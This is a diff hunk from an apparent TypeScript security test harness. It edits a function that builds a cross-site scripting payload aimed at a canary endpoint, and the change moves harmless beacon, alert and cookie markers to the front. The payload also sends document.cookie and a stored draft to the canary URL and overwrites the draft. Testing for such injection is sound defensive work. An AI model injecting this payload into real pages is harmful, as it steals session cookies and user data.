@@ -36,10 +36,11 @@ class Canary {
   }
 }
 
-/** What an attacker would do with one line of script here. */
+/** What an attacker would do with one line of script here: the harmless first, which needs no origin. */
 const theft = (canary: string) =>
+  `new Image().src='${canary}/ran';alert(1);document.cookie='owned=1;path=/';` +
   `new Image().src='${canary}/stolen?'+encodeURIComponent(document.cookie+localStorage.getItem('draft'));` +
-  `localStorage.setItem('draft','broken');document.cookie='owned=1;path=/';alert(1)`
+  `localStorage.setItem('draft','broken')`
 
 /** Links by what they try; each is a path below the site. */
 function hostileLinks(canary: string): Record<string, string> {
